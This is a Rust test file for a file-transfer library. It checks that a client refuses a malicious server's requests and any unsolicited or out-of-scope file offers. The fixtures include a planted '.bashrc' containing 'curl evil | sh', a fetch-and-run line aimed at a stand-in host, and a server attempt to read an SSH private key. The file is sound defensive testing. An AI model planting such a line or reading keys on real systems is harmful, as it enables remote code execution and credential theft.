//! A client session serves nothing and takes only what it asked for, whatever the server does:
//! the transfer layer refuses the server's requests and its offers outside the client's GETs,
//! without the application ever seeing them (issue: a malicious server read and planted files).

use ferry_core::testing::{MemApp, Outcome, Pair};
use ferry_core::{Event, Reason};

/// Drive until `done`, then a little longer so that nothing else is pending.
fn drive(pair: &mut Pair, done: impl FnMut(&Pair) -> bool) {
    pair.drive_until(100_000, done);
    pair.drive_bounded(1_000);
}

fn seen_by_client(pair: &Pair, what: impl Fn(&Event) -> bool) -> bool {
    pair.client.app.log.iter().any(what)
}

#[test]
fn a_client_refuses_every_request_from_the_server() {
    let client = MemApp::new().with_file(".ssh/id_ed25519", b"PRIVATE KEY".to_vec());
    let mut server = MemApp::new();
    server.to_get.extend([".ssh".to_string(), String::new()]);
    server.to_list.push_back(String::new());
    let mut pair = Pair::simple(client, server, 11);
    drive(&mut pair, |p| p.server.app.requests_done.len() == 3);

    let done = &pair.server.app.requests_done;
    assert_eq!(done.len(), 3, "every request is answered: {done:?}");
    for (_, error) in done {
        let problem = error.as_ref().expect("a refusal, not a success");
        assert_eq!(problem.reason, Reason::Denied);
        assert!(problem.detail.contains("client serves no requests"));
    }
    assert!(
        pair.server.app.committed.is_empty(),
        "nothing left the client"
    );
    assert!(
        pair.server.app.listings.is_empty(),
        "no listing left the client"
    );
    assert!(!seen_by_client(&pair, |e| matches!(
        e,
        Event::GetRequested { .. } | Event::ListRequested { .. } | Event::RecordReceived { .. }
    )));
    assert!(pair.client.session.error().is_none());
}

#[test]
fn a_client_refuses_offers_it_did_not_ask_for() {
    let mut server = MemApp::new().with_file(".bashrc", b"curl evil | sh".to_vec());
    server.overwrite = true;
    server.to_send.push_back(".bashrc".to_string());
    let mut pair = Pair::simple(MemApp::new(), server, 12);
    drive(&mut pair, |p| p.server.app.outcomes.contains_key(".bashrc"));

    assert_eq!(
        pair.server.app.outcomes.get(".bashrc"),
        Some(&Outcome::Rejected(Reason::Denied))
    );
    assert!(pair.client.app.files.is_empty());
    assert!(!seen_by_client(&pair, |e| matches!(
        e,
        Event::Offered { .. }
    )));
}

#[test]
fn answers_to_a_get_must_lie_at_or_below_the_requested_name() {
    let mut server = MemApp::new()
        .with_file("report.txt", b"the report".to_vec())
        .with_file(".bashrc", b"curl evil | sh".to_vec())
        .with_file("evil/planted.sh", b"#!/bin/sh".to_vec())
        .with_file("report.txt.evil", b"x".to_vec());
    server.overwrite = true;
    server.also_offer = vec![
        ".bashrc".into(),
        "evil/planted.sh".into(),
        "report.txt.evil".into(),
    ];
    let mut client = MemApp::new();
    client.to_get.push_back("report.txt".to_string());
    let mut pair = Pair::simple(client, server, 13);
    drive(&mut pair, |p| p.server.app.outcomes.len() == 4);

    let files: Vec<&String> = pair.client.app.files.keys().collect();
    assert_eq!(files, ["report.txt"], "only the requested file arrives");
    for planted in [".bashrc", "evil/planted.sh", "report.txt.evil"] {
        assert_eq!(
            pair.server.app.outcomes.get(planted),
            Some(&Outcome::Rejected(Reason::Denied)),
            "{planted}"
        );
    }
    // The one offer the client saw asked to overwrite, but a client never takes that from
    // the peer.
    for e in &pair.client.app.log {
        if let Event::Offered { meta, .. } = e {
            assert_eq!(meta.path, "report.txt");
            assert!(!meta.overwrite, "overwrite comes from the local user");
        }
    }
}

#[test]
fn a_directory_get_takes_files_below_it_only() {
    let mut server = MemApp::new()
        .with_file("reports/a.csv", b"a".to_vec())
        .with_file("reports/deep/b.csv", b"b".to_vec())
        .with_file("reportsX/c.csv", b"c".to_vec());
    server.also_offer = vec!["reportsX/c.csv".into()];
    let mut client = MemApp::new();
    client.to_get.push_back("reports".to_string());
    let mut pair = Pair::simple(client, server, 14);
    drive(&mut pair, |p| p.server.app.outcomes.len() == 3);
    let files: Vec<&String> = pair.client.app.files.keys().collect();
    assert_eq!(files, ["reports/a.csv", "reports/deep/b.csv"]);
}

#[test]
fn a_server_still_serves_its_clients() {
    // The same requests from a client are answered as before.
    let server = MemApp::new().with_file("shared.txt", b"hello".to_vec());
    let mut client = MemApp::new();
    client.to_get.push_back("shared.txt".to_string());
    client.to_list.push_back(String::new());
    let mut pair = Pair::simple(client, server, 15);
    drive(&mut pair, |p| p.client.app.requests_done.len() == 2);
    assert_eq!(
        pair.client.app.files.get("shared.txt").map(Vec::as_slice),
        Some(&b"hello"[..])
    );
    assert_eq!(pair.client.app.listings.len(), 1);
}
